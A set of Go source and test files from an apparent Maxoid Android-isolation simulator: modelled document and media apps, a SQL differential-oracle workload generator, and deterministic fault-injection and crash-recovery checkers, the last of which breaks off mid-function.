	dctx, _ := s.Launch(DropboxPkg, intent.Intent{})
	if !vfs.Exists(dctx.FS(), dctx.Cred(), layout.ExtTmpDir+"/DCIM/CameraMX/private_shot.jpg") {
		t.Error("Dropbox cannot see the photo in Vol")
	}
}
