package apps

import (
	"fmt"
	"path"
	"strings"

	"maxoid/internal/ams"
	"maxoid/internal/binder"
	"maxoid/internal/intent"
	"maxoid/internal/vfs"
)

// RenderRounds scales the CPU cost of "rendering" a document per open;
// Table 5 shows app latency dominated by this work, not by I/O.
const RenderRounds = 32

// PDFViewer models Adobe Reader (Table 1, document viewer row): opening
// a file renders it, records it in the recent-files shared preferences,
// and — when opening a content URI — saves a copy of the file to the SD
// card. It also supports in-file search (a Table 5 task).
type PDFViewer struct {
	// LastDigest exposes the render result so benchmarks keep the work.
	LastDigest uint64
}

// PDFViewerPkg is the package name.
const PDFViewerPkg = "com.adobe.reader"

// Package implements ams.App.
func (v *PDFViewer) Package() string { return PDFViewerPkg }

// Manifest returns the app's install manifest.
func (v *PDFViewer) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: PDFViewerPkg,
		Filters: []intent.Filter{{
			Actions:  []string{intent.ActionView},
			Suffixes: []string{".pdf"},
		}},
	}
}

// OnStart handles VIEW intents.
func (v *PDFViewer) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Action != intent.ActionView || in.Data == "" {
		return nil
	}
	return v.Open(ctx, in.Data, strings.HasPrefix(in.Data, "content://") || in.Extra("from_content_uri") == "1")
}

// Open opens and renders a document, leaving Adobe Reader's Table 1
// traces: a recent-files entry and, for content URIs, an SD-card copy.
func (v *PDFViewer) Open(ctx *ams.Context, target string, fromContentURI bool) error {
	data, err := readTarget(ctx, target)
	if err != nil {
		return fmt.Errorf("pdfviewer: %w", err)
	}
	v.LastDigest = cpuWork(data, RenderRounds)
	if err := prefs(ctx, "recent_files").Set("last", target); err != nil {
		return err
	}
	if err := recents(ctx, ctx.DataDir(), "recent.list").Add(target); err != nil {
		return err
	}
	if fromContentURI {
		// The paper: "A copy of the file on SD card when opening a
		// content URI."
		if err := writeSD(ctx, "AdobeReader/"+path.Base(target), data); err != nil {
			return err
		}
	}
	return nil
}

// Search performs an in-file search (Table 5's second Adobe Reader
// task): CPU work proportional to the document size.
func (v *PDFViewer) Search(ctx *ams.Context, target, term string) (int, error) {
	data, err := readTarget(ctx, target)
	if err != nil {
		return 0, err
	}
	v.LastDigest = cpuWork(data, RenderRounds*2)
	return strings.Count(string(data), term), nil
}

// RecentFiles returns the recent-files list for inspection.
func (v *PDFViewer) RecentFiles(ctx *ams.Context) []string {
	return recents(ctx, ctx.DataDir(), "recent.list").List()
}

// OfficeSuite models Kingsoft Office (Table 1): opening a file leaves
// recent files in app-defined-format private state, a thumbnail on the
// SD card, and entries in a database stored on the SD card.
type OfficeSuite struct{}

// OfficeSuitePkg is the package name.
const OfficeSuitePkg = "cn.wps.moffice"

// Package implements ams.App.
func (o *OfficeSuite) Package() string { return OfficeSuitePkg }

// Manifest returns the app's install manifest.
func (o *OfficeSuite) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: OfficeSuitePkg,
		Filters: []intent.Filter{{
			Actions:  []string{intent.ActionView, intent.ActionEdit},
			Suffixes: []string{".doc", ".xls", ".txt"},
		}},
	}
}

// OnStart handles VIEW/EDIT intents. An "append" extra makes the open
// an edit (the simulated user typing and saving).
func (o *OfficeSuite) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Data == "" {
		return nil
	}
	if in.Action == intent.ActionEdit || in.Extra("append") != "" {
		return o.Edit(ctx, in.Data, in.Extra("append"))
	}
	return o.Open(ctx, in.Data)
}

// Open opens a document with Kingsoft's Table 1 traces.
func (o *OfficeSuite) Open(ctx *ams.Context, target string) error {
	data, err := readTarget(ctx, target)
	if err != nil {
		return err
	}
	cpuWork(data, RenderRounds)
	// ADF: recent files in an app-defined format (binary blob).
	if err := recents(ctx, ctx.DataDir(), "recent.adf").Add("ADF1|" + target); err != nil {
		return err
	}
	// Thumbnail and database rows on the SD card.
	if err := writeSD(ctx, ".Kingsoft/thumbs/"+path.Base(target)+".png", data[:min(len(data), 256)]); err != nil {
		return err
	}
	return writeSD(ctx, ".Kingsoft/office.db", []byte("entry:"+target+"\n"))
}

// Edit appends text to a document and saves it in place — the flow
// Dropbox's use case needs ("A wants B^A to edit a file b", Figure 4).
func (o *OfficeSuite) Edit(ctx *ams.Context, target, appendText string) error {
	if err := o.Open(ctx, target); err != nil {
		return err
	}
	return vfs.AppendFile(ctx.FS(), ctx.Cred(), target, []byte(appendText), 0o666)
}

// VPlayer models the media player row of Table 1: playing a video
// leaves playback history in a private DB and a thumbnail on SD card.
type VPlayer struct{}

// VPlayerPkg is the package name.
const VPlayerPkg = "me.abitno.vplayer"

// Package implements ams.App.
func (p *VPlayer) Package() string { return VPlayerPkg }

// Manifest returns the app's install manifest.
func (p *VPlayer) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: VPlayerPkg,
		Filters: []intent.Filter{{
			Actions:  []string{intent.ActionView},
			Suffixes: []string{".mp4", ".mkv", ".avi"},
		}},
	}
}

// OnStart handles VIEW intents.
func (p *VPlayer) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Data == "" {
		return nil
	}
	return p.Play(ctx, in.Data)
}

// Play plays a video, leaving the Table 1 traces.
func (p *VPlayer) Play(ctx *ams.Context, target string) error {
	data, err := readTarget(ctx, target)
	if err != nil {
		return err
	}
	cpuWork(data, RenderRounds/2)
	if err := recents(ctx, ctx.DataDir(), "playback_history.db").Add(target); err != nil {
		return err
	}
	return writeSD(ctx, ".vplayer/thumbs/"+path.Base(target)+".jpg", data[:min(len(data), 512)])
}

// EBookDroid models the open-source document viewer the paper modifies
// (45 lines) to use persistent private state (§7.1): when running
// normally it stores recent-file entries in its normal private DB; as a
// delegate it stores them in pPriv, and shows a merged list.
type EBookDroid struct{}

// EBookDroidPkg is the package name.
const EBookDroidPkg = "org.ebookdroid"

// Package implements ams.App.
func (e *EBookDroid) Package() string { return EBookDroidPkg }

// Manifest returns the app's install manifest.
func (e *EBookDroid) Manifest() ams.Manifest {
	return ams.Manifest{
		Package: EBookDroidPkg,
		Filters: []intent.Filter{{
			Actions:  []string{intent.ActionView},
			Suffixes: []string{".epub", ".djvu", ".pdf"},
		}},
	}
}

// OnStart handles VIEW intents.
func (e *EBookDroid) OnStart(ctx *ams.Context, in intent.Intent) error {
	if in.Data == "" {
		return nil
	}
	return e.Open(ctx, in.Data)
}

// recentStore picks nPriv or pPriv depending on the execution context —
// the essence of the paper's EBookDroid patch.
func (e *EBookDroid) recentStore(ctx *ams.Context) *recentList {
	if ctx.IsDelegate() {
		return recents(ctx, ctx.PPrivDir(), "recent.db")
	}
	return recents(ctx, ctx.DataDir(), "recent.db")
}

// Open opens a document and records it in the context-appropriate
// recent list. Unimportant caches still go to normal private state.
func (e *EBookDroid) Open(ctx *ams.Context, target string) error {
	data, err := readTarget(ctx, target)
	if err != nil {
		return err
	}
	cpuWork(data, RenderRounds)
	if err := e.recentStore(ctx).Add(target); err != nil {
		return err
	}
	cache := path.Join(ctx.DataDir(), "cache", path.Base(target)+".render")
	if err := ctx.FS().MkdirAll(ctx.Cred(), path.Dir(cache), 0o700); err != nil {
		return err
	}
	return vfs.WriteFile(ctx.FS(), ctx.Cred(), cache, data[:min(len(data), 128)], 0o600)
}

// RecentFiles returns the merged recent list: pPriv entries (per
// initiator) plus normal entries, as the patched app displays.
func (e *EBookDroid) RecentFiles(ctx *ams.Context) []string {
	normal := recents(ctx, ctx.DataDir(), "recent.db").List()
	if !ctx.IsDelegate() {
		return normal
	}
	persistent := recents(ctx, ctx.PPrivDir(), "recent.db").List()
	return append(persistent, normal...)
}

// OnTransact lets tests query the recent list over Binder.
func (e *EBookDroid) OnTransact(ctx *ams.Context, from binder.Caller, code string, data binder.Parcel) (binder.Parcel, error) {
	if code == "recents" {
		return binder.Parcel{"recents": strings.Join(e.RecentFiles(ctx), ",")}, nil
	}
	return nil, fmt.Errorf("ebookdroid: unknown code %s", code)
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
