package chaos

import (
	"math/rand"
	"strconv"
	"strings"

	"maxoid/internal/sqldb"
)

// OpKind enumerates the structured operations the generator emits.
type OpKind int

const (
	OpInsert OpKind = iota
	OpUpdate
	OpDelete
	OpSelect
	OpBegin
	OpCommit
	OpRollback
)

// Pred is a simple WHERE predicate: column <cmp> literal, or a NULL
// test. Small on purpose — the oracle's value comes from volume and
// value-type mixing, not predicate complexity.
type Pred struct {
	Col string
	Cmp string // "=", "!=", "<", "<=", ">", ">=", "IS NULL", "IS NOT NULL"
	Val sqldb.Value
}

// Op is one structured workload operation. The generator emits the
// same Op to both engines: SQL() renders the text sqldb executes, and
// Ref.Apply/Ref.Select consume the struct directly, so no second SQL
// parser exists to accidentally share bugs with the first.
type Op struct {
	Kind  OpKind
	Table string
	Cols  []string      // insert columns / update SET columns
	Vals  []sqldb.Value // parallel to Cols
	Where *Pred
}

// oracleTables is the fixed schema: first column is the INTEGER
// PRIMARY KEY, remaining columns are dynamically typed like SQLite's.
var oracleTables = []string{"t0", "t1"}

var oracleCols = []string{"_id", "a", "b", "c"}

// lit renders a value as a SQL literal.
func lit(v sqldb.Value) string {
	switch x := v.(type) {
	case nil:
		return "NULL"
	case int64:
		return strconv.FormatInt(x, 10)
	case float64:
		return strconv.FormatFloat(x, 'f', -1, 64)
	case string:
		return "'" + strings.ReplaceAll(x, "'", "''") + "'"
	}
	return "NULL"
}

// SQL renders the operation as the statement sent to sqldb.
func (op Op) SQL() string {
	switch op.Kind {
	case OpBegin:
		return "BEGIN"
	case OpCommit:
		return "COMMIT"
	case OpRollback:
		return "ROLLBACK"
	case OpInsert:
		vals := make([]string, len(op.Vals))
		for i, v := range op.Vals {
			vals[i] = lit(v)
		}
		return "INSERT INTO " + op.Table + " (" + strings.Join(op.Cols, ", ") + ") VALUES (" + strings.Join(vals, ", ") + ")"
	case OpUpdate:
		sets := make([]string, len(op.Cols))
		for i, c := range op.Cols {
			sets[i] = c + " = " + lit(op.Vals[i])
		}
		return "UPDATE " + op.Table + " SET " + strings.Join(sets, ", ") + op.whereSQL()
	case OpDelete:
		return "DELETE FROM " + op.Table + op.whereSQL()
	case OpSelect:
		return "SELECT " + strings.Join(oracleCols, ", ") + " FROM " + op.Table + op.whereSQL() + " ORDER BY _id"
	}
	return ""
}

func (op Op) whereSQL() string {
	p := op.Where
	if p == nil {
		return ""
	}
	switch p.Cmp {
	case "IS NULL", "IS NOT NULL":
		return " WHERE " + p.Col + " " + p.Cmp
	}
	return " WHERE " + p.Col + " " + p.Cmp + " " + lit(p.Val)
}

// Gen produces a deterministic randomized workload from a seed.
type Gen struct {
	r     *rand.Rand
	inTxn bool
}

// NewGen creates a generator. Workloads from equal seeds are identical.
func NewGen(seed int64) *Gen {
	return &Gen{r: rand.New(rand.NewSource(seed))}
}

var stringPool = []string{"red", "green", "blue", "cyan", "m m", ""}

// value draws a dynamically typed value. textBias shifts the mix for
// text-flavored columns; NULLs and cross-type values appear everywhere
// so comparisons exercise the engine's type-ordering rules.
func (g *Gen) value(textBias bool) sqldb.Value {
	n := g.r.Intn(100)
	if textBias {
		n = (n + 40) % 100
	}
	switch {
	case n < 50:
		return int64(g.r.Intn(10))
	case n < 60:
		return nil
	case n < 70:
		// Only non-integral floats: an integral float would render as an
		// integer literal and come back from the parser as int64.
		return float64(2*g.r.Intn(10)+1) / 2
	default:
		return stringPool[g.r.Intn(len(stringPool))]
	}
}

var cmps = []string{"=", "!=", "<", "<=", ">", ">="}

// pred draws a WHERE predicate (or nil for a full scan).
func (g *Gen) pred() *Pred {
	n := g.r.Intn(100)
	switch {
	case n < 20:
		return nil
	case n < 30:
		cmp := "IS NULL"
		if n < 25 {
			cmp = "IS NOT NULL"
		}
		return &Pred{Col: oracleCols[1+g.r.Intn(3)], Cmp: cmp}
	case n < 50:
		// Primary-key equality, exercising sqldb's indexed fast paths.
		return &Pred{Col: "_id", Cmp: "=", Val: int64(1 + g.r.Intn(60))}
	default:
		return &Pred{Col: oracleCols[1+g.r.Intn(3)], Cmp: cmps[g.r.Intn(len(cmps))], Val: g.value(false)}
	}
}

// Next draws the next workload operation.
func (g *Gen) Next() Op {
	table := oracleTables[g.r.Intn(len(oracleTables))]
	n := g.r.Intn(100)
	switch {
	case n < 35: // INSERT
		cols := []string{}
		vals := []sqldb.Value{}
		if g.r.Intn(100) < 30 {
			// Explicit primary key from a small range, so duplicate-key
			// errors happen and both engines must agree on them.
			cols = append(cols, "_id")
			vals = append(vals, sqldb.Value(int64(1+g.r.Intn(60))))
		}
		for i, c := range oracleCols[1:] {
			if g.r.Intn(100) < 80 {
				cols = append(cols, c)
				vals = append(vals, g.value(i == 1))
			}
		}
		if len(cols) == 0 {
			cols = append(cols, "a")
			vals = append(vals, g.value(false))
		}
		return Op{Kind: OpInsert, Table: table, Cols: cols, Vals: vals}
	case n < 55: // UPDATE (never the primary key)
		cols := []string{}
		vals := []sqldb.Value{}
		for i, c := range oracleCols[1:] {
			if g.r.Intn(100) < 50 {
				cols = append(cols, c)
				vals = append(vals, g.value(i == 1))
			}
		}
		if len(cols) == 0 {
			cols = append(cols, "c")
			vals = append(vals, g.value(false))
		}
		return Op{Kind: OpUpdate, Table: table, Cols: cols, Vals: vals, Where: g.pred()}
	case n < 67: // DELETE
		return Op{Kind: OpDelete, Table: table, Where: g.pred()}
	case n < 90: // SELECT
		return Op{Kind: OpSelect, Table: table, Where: g.pred()}
	default: // transaction control, mostly well-formed
		if g.r.Intn(100) < 8 {
			// Deliberately possibly-invalid, to exercise error agreement.
			return Op{Kind: []OpKind{OpBegin, OpCommit, OpRollback}[g.r.Intn(3)]}
		}
		if g.inTxn {
			g.inTxn = false
			if g.r.Intn(100) < 70 {
				return Op{Kind: OpCommit}
			}
			return Op{Kind: OpRollback}
		}
		g.inTxn = true
		return Op{Kind: OpBegin}
	}
}
