// Package chaos is the deterministic fault-injection harness for the
// Maxoid substrate. It combines internal/fault's seeded schedules with
// three correctness engines:
//
//   - a differential oracle for internal/sqldb: every randomized
//     statement batch is replayed against a naive map-based reference
//     engine (Ref) and results are diffed row for row;
//   - a crash-consistency checker for unionfs: copy-up, whiteout and
//     rename are killed at injected points and the merged view must
//     stay fully-old or fully-new, never a mix;
//   - an all-or-nothing checker for cowproxy view synthesis: a killed
//     synthesis must leave either the complete delta/view/trigger
//     machinery or none of it.
//
// Every engine is single-goroutine and draws all randomness from the
// run seed, so a seed fully reproduces the fault schedule, workload,
// and verdict. cmd/maxoid-chaos drives the engines from the command
// line and can shrink a failing schedule to a minimal one.
package chaos

import (
	"fmt"
	"strconv"
	"strings"

	"maxoid/internal/fault"
	"maxoid/internal/sqldb"
)

// Report is the outcome of one seeded engine run.
type Report struct {
	Engine string
	Seed   int64
	Ops    int           // workload operations executed
	Fired  int           // injected faults that fired
	Kills  int           // process deaths observed (kill engine)
	OpTape []byte        // op-kind per workload step (kill engine); a pure function of the seed
	Trace  []fault.Event // full fault schedule of the run
	// Failures are invariant violations. Empty means the run passed;
	// injected faults that were handled correctly are not failures.
	Failures []string
}

// OK reports whether the run found no invariant violations.
func (r *Report) OK() bool { return len(r.Failures) == 0 }

func (r *Report) failf(format string, args ...interface{}) {
	r.Failures = append(r.Failures, fmt.Sprintf(format, args...))
}

// finish captures the fault schedule into the report.
func (r *Report) finish() {
	r.Trace = fault.Trace()
	r.Fired = 0
	for _, e := range r.Trace {
		if e.Fired {
			r.Fired++
		}
	}
}

// valueRepr renders a sqldb value with a type tag, so the oracle's
// row diff distinguishes 1 from '1' from 1.0 the way the engine does.
func valueRepr(v sqldb.Value) string {
	switch x := v.(type) {
	case nil:
		return "NULL"
	case int64:
		return "i:" + strconv.FormatInt(x, 10)
	case float64:
		return "f:" + strconv.FormatFloat(x, 'g', -1, 64)
	case string:
		return "s:" + x
	case []byte:
		return "b:" + string(x)
	}
	return fmt.Sprintf("?:%v", v)
}

// rowRepr renders one result row.
func rowRepr(row []sqldb.Value) string {
	parts := make([]string, len(row))
	for i, v := range row {
		parts[i] = valueRepr(v)
	}
	return "(" + strings.Join(parts, ", ") + ")"
}

// rowsRepr renders a result set, one row per line, for diff messages.
func rowsRepr(rows [][]sqldb.Value) string {
	parts := make([]string, len(rows))
	for i, r := range rows {
		parts[i] = rowRepr(r)
	}
	return strings.Join(parts, "\n")
}

// diffRows compares two result sets row for row and returns a
// description of the first divergence ("" when identical).
func diffRows(got, want [][]sqldb.Value) string {
	if len(got) != len(want) {
		return fmt.Sprintf("row count %d != reference %d\nengine:\n%s\nreference:\n%s",
			len(got), len(want), rowsRepr(got), rowsRepr(want))
	}
	for i := range got {
		if rowRepr(got[i]) != rowRepr(want[i]) {
			return fmt.Sprintf("row %d: engine %s != reference %s", i, rowRepr(got[i]), rowRepr(want[i]))
		}
	}
	return ""
}
