package chaos

import (
	"fmt"
	"testing"
)

// TestRecoverChecker runs the recover engine across several seeds at a
// reduced op count. Any prefix-consistency violation, lost ack, or
// fail-stop breach fails the test with the seed to reproduce.
func TestRecoverChecker(t *testing.T) {
	ops := 1500
	if testing.Short() {
		ops = 400
	}
	for _, seed := range []int64{1, 2, 7, 42, 1337} {
		seed := seed
		t.Run(fmt.Sprintf("seed%d", seed), func(t *testing.T) {
			rep := RunRecoverChecker(seed, RecoverOptions{Ops: ops})
			if !rep.OK() {
				for _, f := range rep.Failures {
					t.Errorf("seed %d: %s", seed, f)
				}
			}
			if rep.Kills == 0 {
				t.Errorf("seed %d: run finished with zero crash-recover cycles", seed)
			}
			t.Logf("seed %d: ops=%d kills=%d fired=%d", seed, rep.Ops, rep.Kills, rep.Fired)
		})
	}
}
