package chaos

import (
	"bytes"
	"testing"

	"maxoid/internal/testutil"
)

// TestKillCheckerSeeds runs the kill-chaos engine on fixed seeds: every
// run must end leak-free with only typed initiator-facing errors.
func TestKillCheckerSeeds(t *testing.T) {
	defer testutil.LeakCheck(t)()
	for _, seed := range []int64{1, 2, 7, 42} {
		r := RunKillChecker(seed, KillOptions{Ops: 400})
		if !r.OK() {
			t.Fatalf("seed %d: %v", seed, r.Failures)
		}
		if r.Kills == 0 {
			t.Fatalf("seed %d: workload killed nothing", seed)
		}
	}
}

// TestKillCheckerDeterministic: the same seed reproduces the same
// workload op tape, and every run upholds the invariants. Kill counts
// and fault-schedule lengths ride on real timers (ANR watchdogs,
// restart backoff, retry loops), so exact equality of those is not a
// property the engine can promise; the op tape is.
func TestKillCheckerDeterministic(t *testing.T) {
	a := RunKillChecker(11, KillOptions{Ops: 200})
	b := RunKillChecker(11, KillOptions{Ops: 200})
	if !a.OK() || !b.OK() {
		t.Fatalf("failures: %v / %v", a.Failures, b.Failures)
	}
	if a.Kills == 0 || b.Kills == 0 {
		t.Fatalf("kills %d vs %d: workload killed nothing", a.Kills, b.Kills)
	}
	if !bytes.Equal(a.OpTape, b.OpTape) {
		t.Fatalf("seed 11 op tape not reproducible:\n%s\n%s", a.OpTape, b.OpTape)
	}
}
