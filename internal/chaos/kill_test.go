package chaos

import (
	"testing"

	"maxoid/internal/testutil"
)

// TestKillCheckerSeeds runs the kill-chaos engine on fixed seeds: every
// run must end leak-free with only typed initiator-facing errors.
func TestKillCheckerSeeds(t *testing.T) {
	defer testutil.LeakCheck(t)()
	for _, seed := range []int64{1, 2, 7, 42} {
		r := RunKillChecker(seed, KillOptions{Ops: 400})
		if !r.OK() {
			t.Fatalf("seed %d: %v", seed, r.Failures)
		}
		if r.Kills == 0 {
			t.Fatalf("seed %d: workload killed nothing", seed)
		}
	}
}

// TestKillCheckerDeterministic: the same seed reproduces the same kill
// count and fault schedule length.
func TestKillCheckerDeterministic(t *testing.T) {
	a := RunKillChecker(11, KillOptions{Ops: 200})
	b := RunKillChecker(11, KillOptions{Ops: 200})
	if !a.OK() || !b.OK() {
		t.Fatalf("failures: %v / %v", a.Failures, b.Failures)
	}
	if a.Kills != b.Kills || len(a.Trace) != len(b.Trace) {
		t.Fatalf("seed 11 not reproducible: kills %d vs %d, trace %d vs %d",
			a.Kills, b.Kills, len(a.Trace), len(b.Trace))
	}
}
