package chaos

import (
	"reflect"
	"testing"

	"maxoid/internal/fault"
)

func TestSQLOracleNoFaults(t *testing.T) {
	rep := RunSQLOracle(1, OracleOptions{Ops: 1200})
	if !rep.OK() {
		t.Fatalf("oracle diverged without faults:\n%v", rep.Failures)
	}
	if rep.Fired != 0 {
		t.Fatalf("faults fired with none armed: %d", rep.Fired)
	}
}

func TestSQLOracleWithFaults(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rep := RunSQLOracle(seed, OracleOptions{Ops: 1000, Faults: true})
		if !rep.OK() {
			t.Fatalf("seed %d: oracle diverged under faults:\n%v", seed, rep.Failures)
		}
		if rep.Fired == 0 {
			t.Fatalf("seed %d: no faults fired — schedule is not exercising anything", seed)
		}
	}
}

func TestCopyUpChecker(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rep := RunCopyUpChecker(seed, CheckerOptions{Ops: 400})
		if !rep.OK() {
			t.Fatalf("seed %d: union view broke crash consistency:\n%v", seed, rep.Failures)
		}
		if rep.Fired == 0 {
			t.Fatalf("seed %d: no faults fired", seed)
		}
	}
}

func TestSynthChecker(t *testing.T) {
	for seed := int64(1); seed <= 5; seed++ {
		rep := RunSynthChecker(seed, CheckerOptions{Ops: 300})
		if !rep.OK() {
			t.Fatalf("seed %d: COW synthesis broke all-or-nothing:\n%v", seed, rep.Failures)
		}
		if rep.Fired == 0 {
			t.Fatalf("seed %d: no faults fired", seed)
		}
	}
}

// TestSeedReproducesRun is the tentpole determinism guarantee: the
// same seed yields the identical fault schedule and verdict for every
// engine.
func TestSeedReproducesRun(t *testing.T) {
	type runner func(int64) *Report
	engines := map[string]runner{
		"sql-oracle": func(s int64) *Report { return RunSQLOracle(s, OracleOptions{Ops: 400, Faults: true}) },
		"copyup":     func(s int64) *Report { return RunCopyUpChecker(s, CheckerOptions{Ops: 200}) },
		"synth":      func(s int64) *Report { return RunSynthChecker(s, CheckerOptions{Ops: 150}) },
	}
	for name, run := range engines {
		a, b := run(7), run(7)
		if !reflect.DeepEqual(a.Trace, b.Trace) {
			t.Errorf("%s: same seed produced different fault schedules (%d vs %d events)",
				name, len(a.Trace), len(b.Trace))
		}
		if !reflect.DeepEqual(a.Failures, b.Failures) {
			t.Errorf("%s: same seed produced different verdicts: %v vs %v", name, a.Failures, b.Failures)
		}
		if c := run(8); reflect.DeepEqual(a.Trace, c.Trace) && len(a.Trace) > 0 {
			t.Errorf("%s: different seeds produced identical schedules", name)
		}
	}
}

// TestScriptReplayMatchesProbabilisticRun checks the shrink
// infrastructure: replaying only the fired events of a probabilistic
// run as an exact script reproduces the same verdict.
func TestScriptReplayMatchesProbabilisticRun(t *testing.T) {
	orig := RunSQLOracle(3, OracleOptions{Ops: 500, Faults: true})
	var fires []fault.Fire
	for _, e := range orig.Trace {
		if e.Fired {
			fires = append(fires, fault.Fire{Point: e.Point, Hit: e.Hit, Op: e.Op, Frac: e.Frac})
		}
	}
	if len(fires) == 0 {
		t.Skip("no faults fired at this seed")
	}
	replay := RunSQLOracle(3, OracleOptions{Ops: 500, Script: fires})
	if !reflect.DeepEqual(orig.Failures, replay.Failures) {
		t.Fatalf("script replay verdict differs: %v vs %v", orig.Failures, replay.Failures)
	}
	if replay.Fired != len(fires) {
		t.Fatalf("script replay fired %d of %d scripted faults", replay.Fired, len(fires))
	}
}
