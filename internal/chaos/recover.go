// Recover-chaos engine: crash recovery beneath vfs and sqldb.
//
// The engine runs a seeded single-goroutine workload of filesystem
// mutations and SQL batches over a durable environment (internal/wal
// over MemStorage), with faults armed on the WAL's append, fsync, and
// snapshot paths. Crashes come from three directions: spontaneous
// seeded kills between operations, forced kills after an injected
// fault poisons the log (fail-stop), and torn tails — the crash model
// keeps a seeded prefix of each file's unsynced bytes, exactly the
// freedom a real kernel has.
//
// After every crash the engine reopens from snapshot+WAL and diffs the
// recovered state row-for-row and file-for-file against a reference
// built by replaying the op tape's surviving prefix. Invariants:
//
//  1. Prefix consistency: the survivors are always a prefix of the op
//     tape in LSN order — recovery reports the LSN it recovered to,
//     and replaying exactly the tape ops at or below it reproduces the
//     recovered state bit for bit (modulo mtimes, which are not
//     durable by design).
//  2. No acked loss: an operation that returned success after a
//     covering sync is never lost by any later crash.
//  3. Fail-stop: once the log is poisoned, no operation acks until the
//     crash-and-recover cycle.
//  4. Monotone recovery: the recovered LSN never regresses across
//     consecutive crashes.
package chaos

import (
	"errors"
	"fmt"
	"io/fs"
	"math/rand"
	"time"

	"maxoid/internal/fault"
	"maxoid/internal/sqldb"
	"maxoid/internal/testutil"
	"maxoid/internal/vfs"
	"maxoid/internal/wal"
)

// RecoverOptions tune a recover-chaos run.
type RecoverOptions struct {
	Ops     int           // workload operations; 0 = 6000
	Timeout time.Duration // whole-run hang watchdog; 0 = 120s
}

// RunRecoverChecker performs one seeded recover-chaos run.
func RunRecoverChecker(seed int64, opts RecoverOptions) *Report {
	if opts.Ops <= 0 {
		opts.Ops = 6000
	}
	if opts.Timeout <= 0 {
		opts.Timeout = 120 * time.Second
	}
	r := &Report{Engine: "recover", Seed: seed}
	done := make(chan struct{})
	go func() {
		defer close(done)
		runRecover(seed, opts, r)
	}()
	select {
	case <-done:
	case <-time.After(opts.Timeout):
		r.failf("HANG: run did not complete within %v", opts.Timeout)
	}
	return r
}

// allowedRecoverError reports whether a workload operation error is an
// expected outcome rather than a bug: injected faults, the poisoned
// log's fail-stop sentinel, a busy snapshot, and ordinary fs errors
// from the randomized path workload.
func allowedRecoverError(err error) bool {
	for _, target := range []error{
		fault.ErrInjected,
		wal.ErrBroken,
		wal.ErrBusy,
		fs.ErrNotExist,
		fs.ErrExist,
	} {
		if errors.Is(err, target) {
			return true
		}
	}
	return false
}

// tapeOp is one workload operation that appended a WAL record: its
// LSN, whether it was acknowledged durable, and how to replay it onto
// the reference state.
type tapeOp struct {
	lsn   uint64
	acked bool
	apply func(fsys *vfs.FS, db *sqldb.DB)
}

func runRecover(seed int64, opts RecoverOptions, r *Report) {
	st := wal.NewMemStorage()
	env, err := testutil.OpenDurable(st, "main")
	if err != nil {
		r.failf("initial open: %v", err)
		return
	}

	// The reference: plain state with no durability layer, advanced only
	// at crash points by replaying the tape's surviving prefix. refBase
	// always corresponds to LSN base.
	refFS := vfs.New()
	refDB := sqldb.Open()
	var base uint64

	// rngOp draws the op tape; rngCrash decides how many unsynced bytes
	// each file keeps at a crash. Separate streams so the tape is a pure
	// function of the seed regardless of crash-point byte counts.
	rngOp := rand.New(rand.NewSource(seed ^ 0x5deece66d))
	rngCrash := rand.New(rand.NewSource(seed*0x9e3779b9 + 1))

	fault.Enable(seed,
		fault.Spec{Point: "wal.append", Prob: 0.004, Op: fault.OpPartial},
		fault.Spec{Point: "wal.fsync", Prob: 0.006},
		fault.Spec{Point: "wal.snapshot", Prob: 0.15},
	)
	defer fault.Disable()

	var tape []tapeOp
	var maxAcked uint64
	txnOpen := false

	// do runs one workload operation against the live environment and,
	// if it appended a WAL record, pushes it on the tape. Every engine
	// op must append at most one record — that is what makes "surviving
	// prefix of the tape" the same thing as "surviving prefix of the
	// WAL".
	do := func(kind byte, op func(fsys *vfs.FS, db *sqldb.DB) error) {
		r.OpTape = append(r.OpTape, kind)
		r.Ops++
		lsn0 := env.Store.LastLSN()
		poisoned := env.Store.Broken() != nil
		err := op(env.FS, env.DB)
		lsn1 := env.Store.LastLSN()
		if lsn1 > lsn0 {
			if lsn1 != lsn0+1 {
				r.failf("op %d (%c): appended %d records, engine ops must append at most one", r.Ops, kind, lsn1-lsn0)
			}
			acked := err == nil && env.Store.LastSynced() >= lsn1
			tape = append(tape, tapeOp{lsn: lsn1, acked: acked, apply: func(fsys *vfs.FS, db *sqldb.DB) {
				op(fsys, db)
			}})
			if acked && lsn1 > maxAcked {
				maxAcked = lsn1
			}
		}
		if poisoned && err == nil && lsn1 > lsn0 {
			r.failf("op %d (%c): acked on a poisoned log (fail-stop violated)", r.Ops, kind)
		}
		if err != nil && !allowedRecoverError(err) {
			r.failf("op %d (%c): unexpected error: %v", r.Ops, kind, err)
		}
	}

	crash := func() bool {
		r.Kills++
		txnOpen = false
		st.Crash(func(name string, unsynced int) int {
			return rngCrash.Intn(unsynced + 1)
		})
		if err := env.Reopen(); err != nil {
			r.failf("kill %d: recovery failed: %v", r.Kills, err)
			return false
		}
		recovered := env.Store.RecoveredLSN()
		if recovered < maxAcked {
			r.failf("kill %d: acked LSN %d lost, recovered only to %d", r.Kills, maxAcked, recovered)
			return false
		}
		if recovered < base {
			r.failf("kill %d: recovered LSN regressed %d -> %d", r.Kills, base, recovered)
			return false
		}
		// Advance the reference to the recovered LSN: surviving ops (a
		// prefix, by the log's append-only discipline) replay; everything
		// past the recovery point died with the crash and its LSNs may be
		// reused, so it leaves the tape for good.
		for _, op := range tape {
			if op.lsn <= recovered {
				op.apply(refFS, refDB)
			}
		}
		tape = tape[:0]
		refDB.AbortOpenTxn() // mirrors recovery's open-transaction rollback
		base = recovered
		maxAcked = recovered
		diffRecovered(r, env, refFS, refDB)
		return len(r.Failures) == 0
	}

	// Setup runs through the same tracked path as the workload, so even
	// a crash on the very first operations stays within the model. An
	// early crash can lose the setup records; ensure re-issues whatever
	// is missing after every recovery.
	ensure := func() {
		if !vfs.Exists(env.FS, vfs.Root, "/data") {
			do('d', func(fsys *vfs.FS, db *sqldb.DB) error {
				return fsys.Mkdir(vfs.Root, "/data", 0o755)
			})
		}
		if _, err := env.DB.Query("SELECT _id FROM notes WHERE _id = 0"); err != nil {
